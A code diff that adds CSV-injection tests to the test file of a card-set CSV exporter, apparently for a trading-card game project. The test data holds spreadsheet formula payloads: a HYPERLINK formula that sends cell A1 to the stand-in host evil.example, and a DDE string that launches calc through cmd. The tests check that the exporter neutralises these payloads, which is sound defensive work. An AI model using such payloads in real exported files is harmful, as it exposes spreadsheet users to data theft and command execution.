@@ -1,4 +1,5 @@
 import fc from 'fast-check'
+import Papa from 'papaparse'
 import { describe, expect, it } from 'vitest'
 import {
   CARD_SET_LIMITS,
@@ -145,16 +146,45 @@ const cardArb: fc.Arbitrary<FakeCard> = fc
     kind: fc.constantFrom('unit' as const, 'spell' as const, 'land' as const),
     power: fc.integer({ min: 0, max: 99 }),
     star: fc.boolean(),
-    text: fc.string({ maxLength: 200, unit: fc.constantFrom('a', 'é', ' ', ',', ';', '"', '\n', '|', 'z') }).map((s) => s.trim()),
+    text: fc.string({ maxLength: 200, unit: fc.constantFrom('a', 'é', ' ', ',', ';', '"', '\n', '|', 'z', '=', '+', '-', '@', "'", '\t') }).map((s) => s.trim()),
   })
   .map(({ power, ...card }) => (card.kind === 'unit' ? { ...card, power } : card))
 const setArb = fc.uniqueArray(cardArb, { selector: (c) => c.code, maxLength: 30 })
+
+/** Every cell of a CSV text, read by Papa alone (not by the reader under test). */
+const cellsOf = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat()
+const FORMULA_START = /^[=+\-@\t\r]/
+
+describe('card set files: formula cells (issue 29.3, CSV injection)', () => {
+  const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'=already quoted", "''+two quotes", "'plain", 'Wolf']
+  const cards: FakeCard[] = names.map((name, i) => ({ code: `AB-${String(i + 1).padStart(3, '0')}`, name, kind: 'spell', star: false, text: i % 2 ? '=1+1' : '\t@x' }))
+
+  it('writes no cell a spreadsheet would run: each formula cell starts with a quote', () => {
+    const csv = writeCardSetCsv(fakeSpec, cards)
+    const cells = cellsOf(csv)
+    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([])
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")')
+    expect(cells).toContain("'+cmd|' /C calc'!A0")
+    expect(cells).toContain("''=already quoted")
+    expect(cells).toContain("'plain")
+  })
+
+  it('reads the export back unchanged, quotes written by the player included', () => {
+    const csv = writeCardSetCsv(fakeSpec, cards)
+    const back = read(csv)
+    expect(back).toMatchObject({ ok: true })
+    // The text cells are trimmed on reading, as any cell is: '\t@x' comes back as '@x'.
+    expect(back.ok && back.cards.map((c) => [c.name, c.text])).toEqual(cards.map((c) => [c.name, c.text.trim()]))
+  })
+})
 
 describe('card set files: round trip', () => {
   it('any set written as CSV reads back the same', () => {
     fc.assert(
       fc.property(setArb, (cards) => {
-        expect(read(writeCardSetCsv(fakeSpec, cards))).toEqual({ ok: true, format: 'csv', name: null, cards })
+        const csv = writeCardSetCsv(fakeSpec, cards)
+        expect(cellsOf(csv).filter((cell) => FORMULA_START.test(cell))).toEqual([])
+        expect(read(csv)).toEqual({ ok: true, format: 'csv', name: null, cards })
       }),
     )
   })
